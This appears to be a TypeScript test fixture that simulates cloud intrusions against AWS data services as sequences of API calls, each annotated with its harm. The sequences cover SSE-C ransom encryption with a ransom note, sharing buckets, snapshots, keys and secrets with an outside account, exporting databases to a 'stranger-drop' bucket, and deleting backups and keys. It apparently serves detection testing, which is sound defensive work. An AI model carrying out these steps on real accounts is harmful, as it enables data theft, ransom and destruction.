import { AGENTS, DATA, HOME, role, STRANGER, user, type Intrusion, type Step } from '../step';

const CLI = 'aws-cli/2.33.2 md/awscrt#0.29.1 ua/2.1 os/macos#25.1.0 md/arch#arm64 lang/python#3.13.9 md/pyimpl#CPython';
const BOTO = 'Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux#6.8.0-88-generic md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython Botocore/1.42.3';
const policy = (...statements: object[]): string => JSON.stringify({ Version: '2012-10-17', Statement: statements });
const toStranger = (Action: string): string => policy({ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action, Resource: '*' });
const sso = (name: string, person: string, agent: string = CLI, from = '203.0.113.211') => role(`AWSReservedSSO_${name}_2f1e2d3c4b5a6978`, `${person}@example.com`, from, agent);
const own = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${HOME}:${rest}`;
const KEY = own('kms', 'key/0d1d2d3d-4d5d-4d6d-8d7d-0d1d2d3d4d5d');

/** The part of the seventh set that is about what is kept: buckets, databases, backups, keys, secrets. */
export const data: readonly Intrusion[] = [
  {
    name: 'objects locked with a key that AWS forgets',
    as: user('backup-sync', BOTO, '198.51.100.211'),
    steps: [
      { call: 's3:ListBuckets', request: { Host: 's3.amazonaws.com' } },
      ...Array.from({ length: 6 }, (_, n): Step => ({ call: 's3:CopyObject', request: { bucketName: 'acme-files', key: `q/${n}.pdf`, 'x-amz-copy-source': `acme-files/q/${n}.pdf`, 'x-amz-server-side-encryption-customer-algorithm': 'AES256', Host: 'acme-files.s3.us-east-1.amazonaws.com' }, more: { ...DATA, additionalEventData: { SSEApplied: 'SSE_C' } }, after: 1, ...(n === 5 ? { harm: 'objects written anew under a key that only the intruder has' } : {}) })),
      { call: 's3:PutBucketLifecycle', request: { bucketName: 'acme-files', LifecycleConfiguration: { Rule: { ID: 'x', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 7 } } } }, harm: 'objects set to be deleted within a week' },
      { call: 's3:PutObject', request: { bucketName: 'acme-files', key: 'HOW_TO_RECOVER.txt', Host: 'acme-files.s3.us-east-1.amazonaws.com' }, more: DATA, harm: 'a demand for ransom' },
    ],
  },
  {
    name: 'a bucket shared, copied, and made to forget',
    as: sso('PowerUser', 'una'),
    steps: [
      { call: 's3:DeleteBucketPublicAccessBlock', request: { bucketName: 'acme-customers', publicAccessBlock: '' }, harm: 'the guard against public buckets taken off' },
      { call: 's3:PutBucketPolicy', request: { bucketName: 'acme-customers', bucketPolicy: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:user/x` }, Action: ['s3:GetObject', 's3:ListBucket'], Resource: ['arn:aws:s3:::acme-customers', 'arn:aws:s3:::acme-customers/*'] }] } }, harm: 'a bucket opened to a strange account' },
      { call: 's3:PutBucketReplication', request: { bucketName: 'acme-customers', ReplicationConfiguration: { Role: `arn:aws:iam::${HOME}:role/replication`, Rule: { Status: 'Enabled', Priority: 1, Destination: { Bucket: 'arn:aws:s3:::stranger-drop', Account: STRANGER } } } }, harm: 'a bucket copied to one of a strange account from now on' },
      { call: 's3:PutBucketVersioning', request: { bucketName: 'acme-customers', VersioningConfiguration: { Status: 'Suspended' } }, harm: 'old versions kept no more' },
      { call: 's3:PutBucketAcl', request: { bucketName: 'acme-logs', 'x-amz-acl': 'public-read-write' }, harm: 'a bucket that everybody may write to' },
      { call: 's3:DeleteBucketEncryption', request: { bucketName: 'acme-customers' } },
    ],
  },
  {
    name: 'databases exported, restored in the open, and deleted',
    as: role('dba', 'vera@example.com', '203.0.113.212', CLI),
    steps: [
      { call: 'rds:DescribeDBInstances', request: {} },
      { call: 'rds:CreateDBSnapshot', request: { dBSnapshotIdentifier: 'x', dBInstanceIdentifier: 'shop' }, response: { dBSnapshotIdentifier: 'x' } },
      { call: 'rds:ModifyDBSnapshotAttribute', request: { dBSnapshotIdentifier: 'x', attributeName: 'restore', valuesToAdd: [STRANGER] }, harm: 'a copy of the database shared with a strange account' },
      { call: 'rds:StartExportTask', request: { exportTaskIdentifier: 'x', sourceArn: own('rds', 'snapshot:x'), s3BucketName: 'stranger-drop', iamRoleArn: `arn:aws:iam::${HOME}:role/export`, kmsKeyId: KEY }, harm: 'the database written into a bucket' },
      { call: 'rds:RestoreDBInstanceFromDBSnapshot', request: { dBInstanceIdentifier: 'y', dBSnapshotIdentifier: 'x', publiclyAccessible: true }, response: { dBInstanceIdentifier: 'y' }, harm: 'a copy of the database on the Internet' },
      { call: 'rds:ModifyDBInstance', request: { dBInstanceIdentifier: 'y', masterUserPassword: '****', applyImmediately: true }, response: { dBInstanceIdentifier: 'y' }, harm: 'the password of the copy set' },
      { call: 'rds:ModifyDBCluster', request: { dBClusterIdentifier: 'prod', deletionProtection: false, backupRetentionPeriod: 1, applyImmediately: true }, harm: 'a database left without protection' },
      { call: 'rds:DeleteDBCluster', request: { dBClusterIdentifier: 'prod', skipFinalSnapshot: true, deleteAutomatedBackups: true }, harm: 'a database deleted without a copy' },
    ],
  },
  {
    name: 'a warehouse emptied',
    as: role('analyst', 'wes@example.com', '203.0.113.213', BOTO),
    steps: [
      { call: 'redshift:GetClusterCredentials', request: { dbUser: 'admin', clusterIdentifier: 'dwh', autoCreate: true, durationSeconds: 3600 }, response: { dbUser: 'IAMA:admin' }, harm: 'a password for a new administrator of the warehouse' },
      { call: 'redshift-data:ExecuteStatement', request: { clusterIdentifier: 'dwh', database: 'prod', dbUser: 'admin', sql: "unload ('select * from customers') to 's3://stranger-drop/x' iam_role default" } },
      { call: 'redshift:AuthorizeSnapshotAccess', request: { snapshotIdentifier: 'x', accountWithRestoreAccess: STRANGER }, harm: 'a copy of the warehouse shared with a strange account' },
      { call: 'redshift:ModifyCluster', request: { clusterIdentifier: 'dwh', publiclyAccessible: true }, harm: 'the warehouse put on the Internet' },
      { call: 'redshift:DisableLogging', request: { clusterIdentifier: 'dwh' }, harm: 'the log of queries switched off' },
    ],
  },
  {
    name: 'tables exported and then gone',
    as: sso('PowerUser', 'xia'),
    steps: [
      { call: 'dynamodb:ListTables', request: {} },
      { call: 'dynamodb:ExportTableToPointInTime', request: { tableArn: own('dynamodb', 'table/customers'), s3Bucket: 'stranger-drop', s3BucketOwner: STRANGER, exportFormat: 'DYNAMODB_JSON' }, response: { exportDescription: { exportStatus: 'IN_PROGRESS' } }, harm: 'a table written into a bucket of a strange account' },
      { call: 'dynamodb:PutResourcePolicy', request: { resourceArn: own('dynamodb', 'table/customers'), policy: toStranger('dynamodb:*') }, harm: 'a table opened to a strange account' },
      { call: 'dynamodb:UpdateContinuousBackups', request: { tableName: 'customers', pointInTimeRecoverySpecification: { pointInTimeRecoveryEnabled: false } }, harm: 'copies of a table made no more' },
      { call: 'dynamodb:UpdateTable', request: { tableName: 'customers', deletionProtectionEnabled: false } },
      { call: 'dynamodb:DeleteTable', request: { tableName: 'customers' }, response: { tableDescription: { tableStatus: 'DELETING' } }, harm: 'a table deleted' },
    ],
  },
  {
    name: 'vaults of backups opened and emptied',
    as: sso('Admin', 'yan'),
    steps: [
      { call: 'backup:ListBackupVaults', request: {} },
      { call: 'backup:DeleteBackupVaultLockConfiguration', request: { backupVaultName: 'main' }, harm: 'the lock of a vault taken off' },
      { call: 'backup:PutBackupVaultAccessPolicy', request: { backupVaultName: 'main', policy: toStranger('backup:CopyFromBackupVault') }, harm: 'a vault opened to a strange account' },
      ...Array.from({ length: 4 }, (_, n): Step => ({ call: 'backup:DeleteRecoveryPoint', request: { backupVaultName: 'main', recoveryPointArn: `arn:aws:ec2:us-east-1::snapshot/snap-0d${n}` }, after: 2, ...(n === 3 ? { harm: 'backups deleted' } : {}) })),
      { call: 'backup:DeleteBackupPlan', request: { backupPlanId: 'aa11' }, harm: 'no more backups planned' },
      { call: 'backup:DeleteBackupVault', request: { backupVaultName: 'main' }, harm: 'a vault deleted' },
      { call: 'rbin:DeleteRule', request: { identifier: 'aa11' }, harm: 'what is deleted is not kept any more' },
    ],
  },
  {
    name: 'keys lent, locked away and thrown away',
    as: sso('Admin', 'zoe'),
    steps: [
      { call: 'kms:ListKeys', request: {} },
      { call: 'kms:CreateGrant', request: { keyId: KEY, granteePrincipal: `arn:aws:iam::${STRANGER}:user/x`, operations: ['Decrypt', 'CreateGrant'] }, response: { grantId: 'x' }, harm: 'a key lent to a strange account' },
      { call: 'kms:PutKeyPolicy', request: { keyId: KEY, policyName: 'default', policy: toStranger('kms:*'), bypassPolicyLockoutSafetyCheck: true }, harm: 'a key that only a strange account may use' },
      { call: 'kms:DisableKey', request: { keyId: KEY }, harm: 'a key put out of use' },
      { call: 'kms:ScheduleKeyDeletion', request: { keyId: KEY, pendingWindowInDays: 7 }, response: { keyId: KEY }, harm: 'a key set to be deleted' },
      { call: 'kms:DeleteImportedKeyMaterial', request: { keyId: KEY }, harm: 'what a key is made of deleted' },
      { call: 'kms:UpdateAlias', request: { aliasName: 'alias/prod', targetKeyId: `arn:aws:kms:us-east-1:${STRANGER}:key/x` }, error: 'NotFoundException' },
    ],
  },
  {
    name: 'secrets read, shared and exchanged',
    as: sso('ReadOnly', 'abe', BOTO),
    steps: [
      { call: 'secretsmanager:ListSecrets', request: { maxResults: 100 } },
      ...Array.from({ length: 10 }, (_, n): Step => ({ call: 'secretsmanager:GetSecretValue', request: { secretId: `prod/a-${n}` }, after: 1, ...(n === 9 ? { harm: 'secrets read one after the other' } : {}) })),
      { call: 'ssm:GetParametersByPath', request: { path: '/', recursive: true, withDecryption: true }, harm: 'all parameters read in clear' },
      { call: 'secretsmanager:PutResourcePolicy', request: { secretId: 'prod/db', resourcePolicy: toStranger('secretsmanager:GetSecretValue'), blockPublicPolicy: false }, harm: 'a secret opened to a strange account' },
      { call: 'secretsmanager:UpdateSecret', request: { secretId: 'prod/db', clientRequestToken: 'x' }, response: { aRN: own('secretsmanager', 'secret:prod/db-aa') } },
      { call: 'secretsmanager:DeleteSecret', request: { secretId: 'prod/db', forceDeleteWithoutRecovery: true }, harm: 'a secret deleted for good' },
    ],
  },
  {
    name: 'file systems opened, copied and carried off',
    as: sso('PowerUser', 'bea'),
    steps: [
      { call: 'elasticfilesystem:PutFileSystemPolicy', request: { fileSystemId: 'fs-0d1d2d3d4d5d6d7d8', policy: policy({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'elasticfilesystem:*', Resource: '*' }), bypassPolicyLockoutSafetyCheck: false }, harm: 'a file system opened to everybody' },
      { call: 'elasticfilesystem:CreateReplicationConfiguration', request: { sourceFileSystemId: 'fs-0d1d2d3d4d5d6d7d8', destinations: [{ region: 'us-east-1', fileSystemId: `arn:aws:elasticfilesystem:us-east-1:${STRANGER}:file-system/fs-0f1` }] }, harm: 'a file system copied to a strange account' },
      { call: 'elasticfilesystem:DeleteFileSystem', request: { fileSystemId: 'fs-0e1e2e3e4e5e6e7e8' }, harm: 'a file system deleted' },
      { call: 'datasync:CreateLocationS3', request: { s3BucketArn: 'arn:aws:s3:::stranger-drop', s3Config: { bucketAccessRoleArn: `arn:aws:iam::${STRANGER}:role/x` } }, harm: 'a bucket of a strange account made a place to copy to' },
      { call: 'datasync:StartTaskExecution', request: { taskArn: own('datasync', 'task/task-0d1') } },
      { call: 'transfer:ImportSshPublicKey', request: { serverId: 's-0d1', userName: 'partner', sshPublicKeyBody: 'ssh-rsa AAAA' }, harm: 'a key for the server that partners send files to' },
    ],
  },
  {
    name: 'queries whose answers go elsewhere',
    as: role('analyst', 'cal@example.com', '203.0.113.214', AGENTS.boto),
    steps: [
      { call: 'glue:GetTables', request: { databaseName: 'lake' } },
      { call: 'athena:StartQueryExecution', request: { queryString: 'HIDDEN_DUE_TO_SECURITY_REASONS', resultConfiguration: { outputLocation: 's3://stranger-drop/athena/', expectedBucketOwner: STRANGER }, workGroup: 'primary' }, harm: 'the answer of a query written to a strange account' },
      { call: 'lakeformation:GrantPermissions', request: { principal: { dataLakePrincipalIdentifier: STRANGER }, resource: { table: { databaseName: 'lake', tableWildcard: {} } }, permissions: ['SELECT', 'DESCRIBE'] }, harm: 'all tables of the lake opened to a strange account' },
      { call: 'glue:PutResourcePolicy', request: { policyInJson: toStranger('glue:*') }, harm: 'the catalogue opened to a strange account' },
      { call: 'glue:UpdateJob', request: { jobName: 'etl', jobUpdate: { role: `arn:aws:iam::${HOME}:role/glue-admin`, command: { name: 'glueetl', scriptLocation: 's3://stranger-drop/etl.py' } } }, harm: 'a job that runs a script of a stranger' },
      { call: 'glue:StartJobRun', request: { jobName: 'etl' } },
    ],
  },
  {
    name: 'messages copied on their way',
    as: sso('PowerUser', 'dee'),
    steps: [
      { call: 'sqs:SetQueueAttributes', request: { queueUrl: `https://sqs.us-east-1.amazonaws.com/${HOME}/orders`, attributes: { Policy: toStranger('sqs:ReceiveMessage') } }, harm: 'a queue opened to a strange account' },
      { call: 'sns:SetTopicAttributes', request: { topicArn: own('sns', 'orders'), attributeName: 'Policy', attributeValue: toStranger('sns:Subscribe') }, harm: 'a topic opened to a strange account' },
      { call: 'sns:Subscribe', request: { topicArn: own('sns', 'orders'), protocol: 'https', endpoint: 'HIDDEN_DUE_TO_SECURITY_REASONS' } },
      { call: 'events:PutPermission', request: { action: 'events:PutEvents', principal: '*', statementId: 'x' }, harm: 'events of everybody let in' },
      { call: 'events:PutTargets', request: { rule: 'all', targets: [{ id: 'x', arn: `arn:aws:events:us-east-1:${STRANGER}:event-bus/default` }] }, harm: 'all events sent to a strange account' },
      { call: 'logs:PutSubscriptionFilter', request: { logGroupName: '/aws/lambda/checkout', filterName: 'x', filterPattern: '', destinationArn: `arn:aws:logs:us-east-1:${STRANGER}:destination:x` }, harm: 'logs sent to a strange account' },
      { call: 'kinesis:PutResourcePolicy', request: { resourceARN: own('kinesis', 'stream/clicks'), policy: toStranger('kinesis:*') }, harm: 'a stream opened to a strange account' },
    ],
  },
];
